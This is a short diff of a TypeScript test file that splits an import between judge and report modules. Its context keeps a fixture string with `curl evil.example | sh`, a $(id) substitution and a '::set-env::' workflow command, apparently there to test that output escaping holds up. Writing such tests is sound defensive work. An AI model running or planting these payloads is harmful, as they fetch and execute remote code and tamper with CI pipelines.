@@ -1,6 +1,7 @@
 import { expect, test } from 'vitest'
 import { idsOutput, jsonOutput } from '../../src/command/output.ts'
-import { judgeGate, verdictOutput } from '../../src/report/report.ts'
+import { judgeGate } from '../../src/judge/judge.ts'
+import { verdictOutput } from '../../src/report/report.ts'
 
 const id = 'files-2026-03-02T12-00-00.000000Z'
 const shell = '`curl evil.example | sh`; $(id) && "x" \n::set-env::'
